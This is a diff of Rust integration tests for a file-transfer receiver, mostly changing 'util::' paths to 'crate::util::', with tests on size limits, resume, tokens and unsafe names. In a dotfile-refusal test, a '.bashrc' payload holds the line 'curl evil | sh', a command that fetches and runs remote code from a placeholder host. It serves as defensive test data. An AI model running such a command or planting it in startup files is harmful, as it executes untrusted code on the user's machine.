@@ -4,12 +4,10 @@
 //! issue 11 (limits on unknown sizes, two senders of one name, stale parts,
 //! long names, dotfiles, modes, anonymous resume).
 
-mod util;
-
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
-use util::{run, socketkit, Proc, Server};
+use crate::util::{run, socketkit, Proc, Server};
 
 struct Receiver {
     server: Server,
@@ -84,7 +82,7 @@ fn files_of_every_size_arrive_byte_exact() {
     let mut paths = Vec::new();
     let mut expected = String::new();
     for (name, size) in sizes {
-        let bytes = util::random_bytes(size, size as u64 + 7);
+        let bytes = crate::util::random_bytes(size, size as u64 + 7);
         let path = source.path().join(name);
         std::fs::write(&path, &bytes).unwrap();
         expected.push_str(&format!("{}  {name}\n", b3(&bytes)));
@@ -102,7 +100,7 @@ fn files_of_every_size_arrive_byte_exact() {
         let stored = std::fs::read(receiver.inbox().join(name)).unwrap();
         assert_eq!(stored.len(), size);
         assert!(
-            stored == util::random_bytes(size, size as u64 + 7),
+            stored == crate::util::random_bytes(size, size as u64 + 7),
             "{name} differs"
         );
     }
@@ -158,7 +156,7 @@ fn python_sender_with_token(
     let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/peers/transfer_client.py");
     let mut cmd = Command::new("python3");
     cmd.arg(script)
-        .arg(util::host_port(receiver.server.addr()))
+        .arg(crate::util::host_port(receiver.server.addr()))
         .args(args);
     if let Some(token) = token {
         cmd.env("SK_TOKEN", token);
@@ -181,7 +179,7 @@ fn an_interrupted_transfer_resumes_and_a_tampered_part_restarts() {
     let token = token.to_str().unwrap();
     let receiver = Receiver::start(&["--token-file", token]);
     let source = tempfile::tempdir().unwrap();
-    let bytes = util::random_bytes(3 << 20, 11);
+    let bytes = crate::util::random_bytes(3 << 20, 11);
     let path = source.path().join("movie.bin");
     std::fs::write(&path, &bytes).unwrap();
     let half = (3 << 20) / 2;
@@ -197,7 +195,7 @@ fn an_interrupted_transfer_resumes_and_a_tampered_part_restarts() {
         .wait_for("the partial send", |l| l.starts_with("SENT"));
     drop(partial); // killed: the receiver keeps the part file
     let part = receiver.inbox().join(part_of("movie.bin"));
-    util::wait_until("the partial file to hold the bytes sent", || {
+    crate::util::wait_until("the partial file to hold the bytes sent", || {
         std::fs::metadata(&part)
             .map(|m| m.len() as usize == half)
             .unwrap_or(false)
@@ -229,7 +227,7 @@ fn a_receiver_killed_midway_leaves_no_final_file() {
     let mut receiver = Receiver::start(&[]);
     let source = tempfile::tempdir().unwrap();
     let path = source.path().join("doc.bin");
-    std::fs::write(&path, util::random_bytes(1 << 20, 3)).unwrap();
+    std::fs::write(&path, crate::util::random_bytes(1 << 20, 3)).unwrap();
     let path_text = path.to_str().unwrap().to_owned();
     let partial = python_sender(
         &receiver,
@@ -239,7 +237,7 @@ fn a_receiver_killed_midway_leaves_no_final_file() {
     partial
         .stdout
         .wait_for("the partial send", |l| l.starts_with("SENT"));
-    util::signal(receiver.server.pid(), "KILL");
+    crate::util::signal(receiver.server.pid(), "KILL");
     receiver.server.proc.wait_exit();
     assert!(!receiver.inbox().join("doc.bin").exists());
 }
@@ -261,7 +259,7 @@ fn hostile_names_are_refused_before_anything_is_created() {
             socketkit(["send", receiver.server.addr(), "-", "--name", name]),
             b"evil",
         );
-        let line = util::assert_one_error_line(&out, 1);
+        let line = crate::util::assert_one_error_line(&out, 1);
         assert!(line.contains("unsafe file name"), "{name:?}: {line}");
     }
     assert!(receiver.inbox_names().is_empty());
@@ -306,7 +304,7 @@ fn existing_files_are_kept_unless_overwrite() {
         socketkit(["send", receiver.server.addr(), "-", "--name", "notes.txt"]),
         b"new",
     );
-    assert!(util::assert_one_error_line(&out, 1).contains("exists"));
+    assert!(crate::util::assert_one_error_line(&out, 1).contains("exists"));
     assert_eq!(
         std::fs::read_to_string(receiver.inbox().join("notes.txt")).unwrap(),
         "old"
@@ -338,16 +336,16 @@ fn a_wrong_token_writes_nothing() {
         run(socketkit(args), b"data")
     };
     let out = send_with(&bad);
-    assert!(util::assert_one_error_line(&out, 1).contains("authentication failed"));
+    assert!(crate::util::assert_one_error_line(&out, 1).contains("authentication failed"));
     let out = run(
         socketkit(["send", receiver.server.addr(), "-", "--name", "x"]),
         b"data",
     );
-    assert!(util::assert_one_error_line(&out, 1).contains("token"));
+    assert!(crate::util::assert_one_error_line(&out, 1).contains("token"));
     assert!(receiver.inbox_names().is_empty());
     // The address's next attempt is judged only once the failure's penalty
     // has passed; then the right token gets in.
-    util::wait_until("the right token accepted after the penalty", || {
+    crate::util::wait_until("the right token accepted after the penalty", || {
         let out = send_with(&good);
         let refused = stderr_of(&out);
         assert!(
@@ -370,7 +368,7 @@ fn senders_lying_about_the_size_are_caught() {
         l.starts_with("ERROR") && l.contains("mismatch")
     });
     drop((more, fewer));
-    util::wait_until("no partial files left", || {
+    crate::util::wait_until("no partial files left", || {
         receiver.inbox_names().is_empty()
     });
 }
@@ -399,7 +397,7 @@ fn twenty_senders_at_once() {
     let source = tempfile::tempdir().unwrap();
     let mut senders: Vec<(Proc, Vec<u8>, String)> = (0..20)
         .map(|n| {
-            let bytes = util::random_bytes(1 << 20, n + 100);
+            let bytes = crate::util::random_bytes(1 << 20, n + 100);
             let name = format!("file-{n}.bin");
             let path = source.path().join(&name);
             std::fs::write(&path, &bytes).unwrap();
@@ -489,7 +487,7 @@ impl TinyReceiver {
             socketkit(["send", self.server.addr(), "-", "--name", name]),
             bytes,
         );
-        util::assert_one_error_line(&out, 1)
+        crate::util::assert_one_error_line(&out, 1)
     }
 }
 
@@ -499,7 +497,7 @@ fn a_full_disk_is_reported_to_both_sides_and_nothing_is_renamed() {
         return;
     };
     // From a pipe the size is unknown, so only the write itself can fail.
-    let line = tiny.refused_pipe("too-big.bin", &util::random_bytes(4 << 20, 5));
+    let line = tiny.refused_pipe("too-big.bin", &crate::util::random_bytes(4 << 20, 5));
     assert!(line.contains("not enough space"), "{line}");
     assert!(!tiny.inbox.join("too-big.bin").exists());
 }
@@ -516,14 +514,14 @@ fn a_pipe_of_unknown_size_is_held_to_max_size_as_it_arrives() {
         socketkit(["send", receiver.server.addr(), "-", "--name", "big.bin"]),
         &vec![0u8; 100_000],
     );
-    let line = util::assert_one_error_line(&out, 1);
+    let line = crate::util::assert_one_error_line(&out, 1);
     assert!(line.contains("too large"), "{line}");
     // Far past the limit: the sender hears of it mid-file and stops.
     let out = run(
         socketkit(["send", receiver.server.addr(), "-", "--name", "huge.bin"]),
-        &util::random_bytes(40 << 20, 9),
+        &crate::util::random_bytes(40 << 20, 9),
     );
-    let line = util::assert_one_error_line(&out, 1);
+    let line = crate::util::assert_one_error_line(&out, 1);
     assert!(line.contains("too large"), "{line}");
     // A sender that only reads after END (a peer from PROTOCOL.md) still
     // gets a clean refusal: the receiver discards up to END.
@@ -545,7 +543,7 @@ fn a_pipe_of_unknown_size_is_held_to_max_size_as_it_arrives() {
         l.starts_with("ERROR") && l.contains("too_large")
     });
     offered.wait_exit();
-    util::wait_until("nothing stored and no part left", || {
+    crate::util::wait_until("nothing stored and no part left", || {
         receiver.inbox_names().is_empty()
     });
 }
@@ -554,8 +552,8 @@ fn a_pipe_of_unknown_size_is_held_to_max_size_as_it_arrives() {
 fn a_second_sender_of_the_same_name_is_busy_and_the_stored_file_is_the_confirmed_one() {
     let receiver = Receiver::start(&[]);
     let source = tempfile::tempdir().unwrap();
-    let first = util::random_bytes(2 << 20, 21);
-    let second = util::random_bytes(2 << 20, 22);
+    let first = crate::util::random_bytes(2 << 20, 21);
+    let second = crate::util::random_bytes(2 << 20, 22);
     std::fs::create_dir(source.path().join("other")).unwrap();
     let first_path = source.path().join("a");
     let second_path = source.path().join("other/shared.bin");
@@ -576,13 +574,13 @@ fn a_second_sender_of_the_same_name_is_busy_and_the_stored_file_is_the_confirmed
     holder
         .stdout
         .wait_for("the first half sent", |l| l.starts_with("HELD"));
-    util::wait_until("the receiver to hold the first half", || {
+    crate::util::wait_until("the receiver to hold the first half", || {
         std::fs::read_dir(receiver.inbox())
             .unwrap()
             .any(|e| e.unwrap().metadata().unwrap().len() == half as u64)
     });
     let out = receiver.send(&[&second_path], &[]);
-    let line = util::assert_one_error_line(&out, 1);
+    let line = crate::util::assert_one_error_line(&out, 1);
     assert!(line.contains("busy"), "{line}");
     holder.write_stdin(b"go\n");
     holder.stdout.wait_for("the first sender's DONE", |l| {
@@ -654,7 +652,7 @@ fn stale_parts_expire_at_start_and_later() {
     std::fs::write(&late, b"bytes").unwrap();
     age(&late, std::time::Duration::from_secs(60));
     let mut n = 0;
-    util::wait_until("the stale part to be swept", || {
+    crate::util::wait_until("the stale part to be swept", || {
         n += 1;
         let name = format!("poke-{n}");
         let out = run(
@@ -690,7 +688,7 @@ fn dotfiles_are_refused_unless_allowed() {
         socketkit(["send", receiver.server.addr(), "-", "--name", ".bashrc"]),
         b"curl evil | sh\n",
     );
-    let line = util::assert_one_error_line(&out, 1);
+    let line = crate::util::assert_one_error_line(&out, 1);
     assert!(line.contains("--allow-dotfiles"), "{line}");
     assert!(receiver.inbox_names().is_empty());
     let permissive = Receiver::start(&["--allow-dotfiles"]);
@@ -754,7 +752,7 @@ fn a_sender_cannot_set_modes_beyond_the_receivers_umask() {
 fn an_anonymous_sender_cannot_make_the_receiver_resume() {
     let receiver = Receiver::start(&[]);
     let source = tempfile::tempdir().unwrap();
-    let bytes = util::random_bytes(3 << 20, 31);
+    let bytes = crate::util::random_bytes(3 << 20, 31);
     let path = source.path().join("movie.bin");
     std::fs::write(&path, &bytes).unwrap();
     let half = (3 << 20) / 2;
@@ -792,7 +790,7 @@ fn free_space_is_rechecked_as_data_of_unknown_size_arrives() {
     let Some(tiny) = TinyReceiver::start("32m") else {
         return;
     };
-    let line = tiny.refused_pipe("stream.bin", &util::random_bytes(64 << 20, 41));
+    let line = tiny.refused_pipe("stream.bin", &crate::util::random_bytes(64 << 20, 41));
     // Stopped while room was left, not when the disk was full; and the
     // part is gone, giving the space back.
     assert!(line.contains("nearly full"), "{line}");
@@ -806,8 +804,9 @@ fn before_authenticating_a_sender_may_not_start_a_big_frame() {
     // A long handshake deadline: an old receiver reserved the megabyte and
     // waited that long for it.
     let receiver = Receiver::start(&["--handshake-timeout", "60s"]);
-    let mut peer = std::net::TcpStream::connect(util::host_port(receiver.server.addr())).unwrap();
-    peer.set_read_timeout(Some(util::WAIT)).unwrap();
+    let mut peer =
+        std::net::TcpStream::connect(crate::util::host_port(receiver.server.addr())).unwrap();
+    peer.set_read_timeout(Some(crate::util::WAIT)).unwrap();
     let mut header = (1024u32 * 1024 + 1).to_be_bytes().to_vec();
     header.push(0x24); // FILE_DATA, before any HELLO
     peer.write_all(&header).unwrap();
@@ -826,7 +825,7 @@ fn an_anonymous_sender_leaves_a_resumable_part_alone() {
     // What an authenticated sender's interrupted transfer leaves behind; an
     // anonymous sender of the same name must neither truncate nor take it.
     let receiver = Receiver::start(&["--overwrite"]);
-    let kept = util::random_bytes(64 * 1024, 37);
+    let kept = crate::util::random_bytes(64 * 1024, 37);
     let part = receiver.inbox().join(part_of("movie.bin"));
     std::fs::write(&part, &kept).unwrap();
     let out = run(
